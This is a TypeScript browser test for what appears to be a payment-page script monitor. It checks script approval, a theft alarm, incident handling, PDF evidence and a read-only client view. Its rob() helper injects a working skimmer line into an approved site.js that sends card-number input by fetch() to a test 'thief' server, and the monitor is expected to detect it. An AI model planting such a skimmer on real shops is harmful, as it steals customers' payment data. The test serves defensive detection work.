import { readFileSync } from 'node:fs';
import { listIncidents } from '#contract/incidents';
import { addStore, listClients, readDiscovery } from '#contract/stores';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Shop, startShop } from '../fakes/shop/shop.ts';
import { startWebServer, type Handler, type WebServer } from '../fakes/web-server.ts';
import { openBrowser, phone, signIn, visit } from './stage/browser.ts';
import { type Caller, callerOf } from './stage/caller.ts';
import { joins } from './stage/person.ts';
import { type Server, startServer } from './stage/server.ts';
import { until } from './stage/store.ts';

let server: Server;
let browser: Browser;
let shop: Shop;
let thief: WebServer;
let call: Caller;
beforeAll(async () => {
  [server, browser, shop, thief] = await Promise.all([
    startServer(),
    openBrowser(),
    startShop(),
    startWebServer((_, response) => response.writeHead(204, { 'access-control-allow-origin': '*' }).end()),
  ]);
  call = await callerOf(server.base);
});
afterAll(async () => {
  await browser.close();
  await Promise.all([server.close(), shop.close(), thief.close()]);
});

const file = '/assets/site.js';
const stands = () => `${shop.host}:${shop.port}${file}`;
const why = 'Menus of our theme, its text was read';
const saw = 'Nobody of us changed the theme today';

/** A thief who got into the shop adds lines to a file that was approved. */
function rob(): void {
  const usual: Handler = shop.web.handler;
  const lines = `document.querySelector('[name=card_number]')?.addEventListener('input', (e) => fetch('${thief.origin}/in?' + e.target.value, { mode: 'no-cors' }));`;
  shop.web.handler = (request, response) => {
    if (!request.url!.startsWith(file)) return usual(request, response);
    response.writeHead(200, { 'content-type': 'text/javascript' }).end(`void 0; ${lines}`);
  };
}

async function justify(page: Page, label: string, text: string, verb: string): Promise<void> {
  const form = page.getByRole('dialog');
  await form.getByLabel(label).fill(text);
  await form.getByRole('button', { name: verb, exact: true }).click();
  await form.waitFor({ state: 'hidden' });
}

test('payment pages are watched, scripts approved, a thief is told of, and the review leaves as a PDF', async () => {
  const store = await call(addStore, { body: { url: shop.origin, name: 'Grain' } });
  await until(async () => (await call(readDiscovery, { params: { id: store.id } })).state !== 'running');
  const { page, context, complaints } = await visit(browser);
  await signIn(page, server.base);

  // The list says what to do, the store's page begins.
  await page.goto(`${server.base}/payment-pages`);
  await page.getByRole('heading', { name: 'No payment pages are watched yet' }).waitFor();
  await page.goto(`${server.base}/stores/${store.id}`);
  await page.getByRole('link', { name: 'Watch payment pages' }).click();
  await page.getByRole('heading', { level: 1, name: 'Payment pages of Grain' }).waitFor();
  // What was found of the shop stands there already.
  expect(await page.getByLabel('Checkout', { exact: true }).inputValue()).toContain('/checkout');
  await page.getByRole('combobox', { name: 'How often' }).click();
  await page.getByRole('option', { name: 'Every 12 hours' }).click();
  await page.getByRole('button', { name: 'Begin to watch' }).click();
  await page.getByRole('progressbar', { name: 'Looking now' }).waitFor();
  await page.getByRole('heading', { name: 'Scripts', exact: true }).waitFor();
  await page.getByText('Nothing changed since the first visit.').waitFor();

  // One is approved by itself, the rest at once; one approval is taken back.
  await page.getByRole('checkbox', { name: `Choose ${stands()}` }).check();
  await page.getByRole('button', { name: 'Approve chosen: 1' }).click();
  await justify(page, 'Why it is needed', why, 'Approve');
  await page.getByText('approved by Owner', { exact: true }).first().waitFor();
  await page.getByRole('checkbox', { name: /^All \d+ that wait$/ }).check();
  await page.getByRole('button', { name: /^Approve chosen: \d+$/ }).click();
  await justify(page, 'Why it is needed', 'Seen with the shop on the phone', 'Approve');
  await page.getByText('all approved', { exact: true }).waitFor();
  await page.getByRole('button', { name: 'Take back' }).last().click();
  await justify(page, 'Why it does not hold any more', 'Nobody remembers what it does', 'Take back');
  await page.getByText('1 script waits for a person').waitFor();
  await page.getByText(/^taken back by Owner/).waitFor();

  // A thief comes: the file is the one that was approved, and does something new.
  rob();
  await page.getByRole('button', { name: 'Look now' }).click();
  const stolen = page.locator('details').filter({ hasText: 'leaves for another host' });
  await stolen.getByText(new URL(thief.origin).host).first().waitFor();
  await stolen.getByText('cards of customers are being stolen').waitFor();
  await page.getByText(/^\d alarms?$/).waitFor();
  await stolen.getByRole('link', { name: /^#\d+$/ }).waitFor();
  const { items } = await call(listIncidents, { query: { storeId: store.id } });
  expect(items).toMatchObject([{ severity: 'critical', state: 'open' }]);
  await page.goto(`${server.base}/payment-pages`);
  await page
    .getByText(/^\d alarms?$/)
    .filter({ visible: true })
    .waitFor();
  await page.getByRole('link', { name: 'Grain' }).click();

  // A person calls it hostile and is led to the incident.
  await stolen.getByRole('button', { name: 'Treat as an incident' }).click();
  await justify(page, 'What you saw', saw, 'Treat as an incident');
  await page.waitForURL(new RegExp(`/incidents/${items[0]!.id}$`));

  // The review keeps all of it.
  await page.goto(`${server.base}/payment-pages/stores/${store.id}`);
  await page.getByRole('button', { name: 'Review', exact: true }).click();
  await page.getByRole('combobox', { name: 'For which time' }).click();
  await page.getByRole('option', { name: 'The latest 30 days' }).click();
  await justify(page, 'Note', 'The shop is closed until the theme is clean', 'I looked through it');
  await page.getByText('The shop is closed until the theme is clean').waitFor();
  await page.getByRole('button', { name: 'Evidence' }).click();
  const leaving = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: 'PDF, українська' }).click();
  const pdf = await leaving;
  expect(pdf.suggestedFilename()).toMatch(/^payment-pages-.+\.pdf$/);
  expect(
    readFileSync(await pdf.path())
      .subarray(0, 5)
      .toString(),
  ).toBe('%PDF-');
  expect(complaints).toEqual([]);
  await context.close();
  await asTheClientSeesIt(store.id, store.clientId);
});

/** On a phone: everything to read, nothing to press. */
async function asTheClientSeesIt(storeId: string, clientId: string): Promise<void> {
  const client = (await call(listClients, { query: {} })).items.find(({ id }) => id === clientId)!;
  const theirs = await joins(server.base, call, {
    email: 'client@flows.test',
    role: 'client_viewer',
    clientIds: [client.id],
    name: 'Client',
    language: 'en',
  });
  const { page, context, complaints } = await visit(browser, phone);
  await signIn(page, server.base, theirs);
  await page.goto(`${server.base}/payment-pages`);
  await page.getByRole('link', { name: 'Grain' }).click();
  await page.waitForURL(new RegExp(`/payment-pages/stores/${storeId}$`));
  await page.getByText('Every 12 hours').waitFor();
  await page.getByText(`hostile: Owner`).first().waitFor({ state: 'attached' });
  await page.getByText('The shop is closed until the theme is clean').waitFor();
  await page.getByRole('button', { name: 'Evidence' }).waitFor();
  for (const name of ['Look now', 'Save', 'Approve', 'Take back', 'It is expected', 'Treat as an incident', 'Review'])
    expect(await page.getByRole('button', { name, exact: true }).count()).toBe(0);
  expect(await page.getByRole('checkbox').count()).toBe(0);
  expect(complaints).toEqual([]);
  await context.close();
}
